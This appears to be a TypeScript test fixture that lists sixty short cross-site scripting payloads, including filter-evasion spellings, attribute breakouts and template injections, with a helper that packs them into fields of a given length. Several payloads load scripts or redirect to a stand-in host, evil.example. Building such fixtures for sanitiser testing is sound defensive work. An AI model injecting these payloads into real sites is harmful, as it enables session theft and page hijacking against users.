/**
 * Sixty ways to make a browser run what is only text: elements, attributes, addresses, entities, broken nesting, ways out of
 * attributes, scripts and templates, spellings that filters overlook. Each is one line and short enough for the shortest field that
 * a person can fill (a device's name, 64 characters); each would call `alert`, leave the page, or load something.
 */
export const scriptPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(2)</ScRiPt>',
  '"><script>alert(3)</script>',
  "'><script>alert(4)</script>",
  '</title><script>alert(5)</script>',
  '</textarea><script>alert(6)</script>',
  '</style><script>alert(7)</script>',
  '</script><script>alert(8)</script>',
  '--><script>alert(9)</script>',
  ']]><script>alert(10)</script>',
  '<script src=//evil.example/11.js></script>',
  '<script>location="//evil.example/12"</script>',
  '<scr<script>ipt>alert(13)</scr</script>ipt>',
  '<script/x>alert(14)</script/x>',
  '<<script>alert(15);//<</script>',
  '<img src=x onerror=alert(16)>',
  '<img src=x onerror="alert(17)"//',
  '"><img src=x onerror=alert(18)>',
  "'><img src=x onerror=alert(19)>",
  '<img src="//evil.example/20.png">',
  '<IMG SRC=x OnErRoR=alert(21)>',
  '<img/src=x/onerror=alert(22)>',
  '<image src=x onerror=alert(23)>',
  '<img srcset="//evil.example/24.png 1x">',
  '<svg onload=alert(25)>',
  '<svg/onload=alert(26)//',
  '<svg><script>alert(27)</script></svg>',
  '<svg><animate onbegin=alert(28) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(29)"><text>x',
  '<svg><use href="//evil.example/30.svg#x"/></svg>',
  '<math><a xlink:href="javascript:alert(31)">x',
  '<body onload=alert(32)>',
  '<iframe src="javascript:alert(33)">',
  '<iframe srcdoc="<script>alert(34)</script>">',
  '<iframe src=//evil.example/35></iframe>',
  '<object data="javascript:alert(36)">',
  '<embed src="javascript:alert(37)">',
  '<link rel=stylesheet href=//evil.example/38.css>',
  '<style>@import "//evil.example/39.css";</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example/40">',
  '<base href="//evil.example/41/">',
  '<form action=//evil.example/42><input type=submit>',
  '<button formaction="javascript:alert(43)">x</button>',
  '<input autofocus onfocus=alert(44)>',
  '<select autofocus onfocus=alert(45)>',
  '<textarea autofocus onfocus=alert(46)>',
  '<details open ontoggle=alert(47)>',
  '<video><source onerror=alert(48)></video>',
  '<audio src=x onerror=alert(49)>',
  '<marquee onstart=alert(50)>x</marquee>',
  '<a href="javascript:alert(51)">x</a>',
  '<a href="java&#9;script:alert(52)">x</a>',
  'javascript:alert(53)',
  'data:text/html,<script>alert(54)</script>',
  '" autofocus onfocus=alert(55) x="',
  "' onmouseover=alert(56) x='",
  '&lt;script&gt;alert(57)&lt;/script&gt;',
  '&#60;script&#62;alert(58)&#60;/script&#62;',
  '{{constructor.constructor("alert(59)")()}}',
  '${alert(60)}`;alert(60)//',
];

/** As many of them in one field as fit, all of them in a few. */
export function payloadsInFields(length: number): readonly string[] {
  const fields: string[] = [];
  for (const payload of scriptPayloads) {
    const last = fields.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= length) fields[fields.length - 1] = `${last} ${payload}`;
    else fields.push(payload);
  }
  return fields;
}
